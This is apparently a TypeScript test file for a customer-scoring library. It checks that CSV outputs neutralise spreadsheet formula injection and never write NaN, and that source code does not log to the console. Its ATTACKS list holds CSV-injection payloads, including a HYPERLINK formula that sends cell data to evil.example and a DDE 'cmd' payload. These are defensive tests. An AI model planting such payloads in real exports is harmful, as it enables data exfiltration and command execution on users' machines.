// Output safety: ids and labels written to CSV by the scoring `toCsv` and the CLI's writer are
// neutralised against spreadsheet formula injection (OWASP "CSV injection": a text cell starting
// with = + - @ tab or CR gets a leading apostrophe), round-trip through a CSV parser to the same
// text, and never leak NaN. And nothing in src/ writes to the console outside the CLI's output path.
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { columnTable } from '../../src/cli/column-table.js';
import { toCsv } from '../../src/cli/write-csv.js';
import { recordsToCsv } from '../../src/scoring/records-to-csv.js';
import { scoreCustomers } from '../../src/scoring/score-customers.js';
import { simulateBank } from '../../src/simulate/simulate-bank.js';
import { FUZZ_SEED } from './fuzz-helpers.js';

const ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '=1+2', '+1', '-1+1', '@SUM(A1:A9)', '\t=1+2', '\r=1+2', "=cmd|' /C calc'!A0", '-', '+'];

/** A cell a spreadsheet would evaluate as a formula. */
const dangerous = (cell: string) => /^[=+\-@\t\r]/.test(cell);

/** What a neutralising writer must make of a text cell: a leading apostrophe before a trigger, nothing else. */
const neutralised = (text: string) => (dangerous(text) ? `'${text}` : text);

/** Undo the neutralisation of a cell known to hold a neutralised trigger. */
const restore = (cell: string) => (cell.startsWith("'") && dangerous(cell.slice(1)) ? cell.slice(1) : cell);

describe('the CLI writer (toCsv)', () => {
  it('neutralises every attack in ids and labels, keeps numbers (negative ones too) as numbers', () => {
    const csv = toCsv(columnTable({ customer_id: ATTACKS, segment: ATTACKS.map((a) => `${a}`), clv: ATTACKS.map((_, i) => -i - 0.5) }));
    const rows = parse(csv, { relax_column_count: false }) as string[][];
    expect(rows[0]).toEqual(['customer_id', 'segment', 'clv']);
    rows.slice(1).forEach((row, i) => {
      expect(dangerous(row[0]!), row[0]).toBe(false);
      expect(dangerous(row[1]!), row[1]).toBe(false);
      expect(restore(row[0]!)).toBe(ATTACKS[i]);
      expect(row[2]).toBe(String(-i - 0.5));
    });
  });

  it('property: any text comes back exactly as written, apostrophe-prefixed when it starts with a trigger; no cell is a formula', () => {
    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', "'", 'a', '1', ' ', 'é', '€'), maxLength: 12 });
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 10 }), fc.constantFrom<',' | ';' | '\t'>(',', ';', '\t'), (cells, delimiter) => {
        const csv = toCsv(columnTable({ id: cells.map((c) => c[0]), label: cells.map((c) => c[1]) }), { delimiter });
        const rows = parse(csv, { delimiter, relax_quotes: false }) as string[][];
        expect(rows.length).toBe(cells.length + 1);
        rows.slice(1).forEach((row, i) => {
          for (const cell of row) expect(dangerous(cell), JSON.stringify(cell)).toBe(false);
          expect(row[0]).toBe(neutralised(cells[i]![0]));
          expect(row[1]).toBe(neutralised(cells[i]![1]));
        });
      }),
      { seed: FUZZ_SEED + 20, numRuns: 300 },
    );
  });

  it('NaN and Infinity are never written', () => {
    for (const bad of [Number.NaN, Infinity, -Infinity]) {
      expect(() => toCsv(columnTable({ id: ['a'], clv: [bad] }))).toThrow(expect.objectContaining({ name: 'ClvkitError' }));
    }
  });
});

describe('the scoring writer (recordsToCsv, CustomerScores.toCsv)', () => {
  it('recordsToCsv: attacks in string and list cells are neutralised and round-trip', () => {
    const records = ATTACKS.map((a, i) => ({ customerId: a, treatment: a, productGaps: [a, 'loan'], value: -i }));
    const rows = parse(recordsToCsv(records), {}) as string[][];
    rows.slice(1).forEach((row, i) => {
      for (const cell of row.slice(0, 3)) expect(dangerous(cell), JSON.stringify(cell)).toBe(false);
      expect(row[0]).toBe(neutralised(ATTACKS[i]!));
      expect(row[2]).toBe(neutralised(`${ATTACKS[i]}|loan`));
      expect(row[3]).toBe(String(-i));
    });
  });

  it('scoreCustomers(book).toCsv() with hostile customer ids: no cell is a formula, ids round-trip', () => {
    const book = simulateBank({ customers: 120, months: 18, seed: 5 });
    const hostile = book.customers.customerId.map((id, i) => (i < ATTACKS.length ? `${ATTACKS[i]}${id}` : id));
    const renamed = {
      ...book,
      customers: { ...book.customers, customerId: hostile },
      transactions: { ...book.transactions, customerIds: book.transactions.customerIds.map((id) => hostile[book.customers.customerId.indexOf(id)] ?? id) },
    };
    const scores = scoreCustomers(renamed, {});
    const csv = scores.toCsv();
    const rows = parse(csv, {}) as string[][];
    const header = rows[0]!;
    const idColumn = header.indexOf('customerId');
    expect(idColumn).toBeGreaterThanOrEqual(0);
    const ids = rows.slice(1).map((r) => r[idColumn]!);
    for (const row of rows.slice(1)) {
      row.forEach((cell, c) => {
        // Numbers may be negative ("-12.5"): those are numbers, not formulas; text cells may not start with a trigger.
        if (dangerous(cell)) expect(Number.isFinite(Number(cell)), `${header[c]}: ${JSON.stringify(cell)}`).toBe(true);
        expect(cell).not.toMatch(/^(NaN|Infinity|-Infinity|undefined)$/);
      });
    }
    expect(new Set(ids.map(restore))).toEqual(new Set(scores.customerId));
    for (const attack of ATTACKS) expect(ids.some((id) => restore(id).startsWith(attack))).toBe(true);
  });
});

describe('no customer data in logs', () => {
  const SRC = fileURLToPath(new URL('../../src/', import.meta.url));

  function sourceFiles(dir: string): string[] {
    return readdirSync(dir).flatMap((name) => {
      const path = join(dir, name);
      return statSync(path).isDirectory() ? sourceFiles(path) : path.endsWith('.ts') ? [path] : [];
    });
  }

  /** Code lines (comments removed) that write to the console or the process streams. */
  function consoleWrites(): string[] {
    const found: string[] = [];
    for (const file of sourceFiles(SRC)) {
      const code = readFileSync(file, 'utf8')
        .replace(/\/\*[\s\S]*?\*\//g, (m) => m.replace(/[^\n]/g, ' '))
        .replace(/(^|[^:'"`])\/\/.*$/gm, '$1');
      code.split('\n').forEach((line, i) => {
        if (/\bconsole\s*\.\s*[a-zA-Z]+\s*\(|process\s*\.\s*(stdout|stderr)\b/.test(line)) found.push(`${relative(SRC, file)}:${i + 1}: ${line.trim()}`);
      });
    }
    return found;
  }

  it('no console call anywhere in src/, and the process streams are touched only by the CLI entry point', () => {
    const writes = consoleWrites();
    expect(writes.filter((w) => /console\s*\./.test(w))).toEqual([]);
    // The CLI entry hands process.stdout / stderr to run-cli (its output path); nothing else may.
    for (const w of writes) expect(w.startsWith('cli/main.ts:'), w).toBe(true);
  });
});
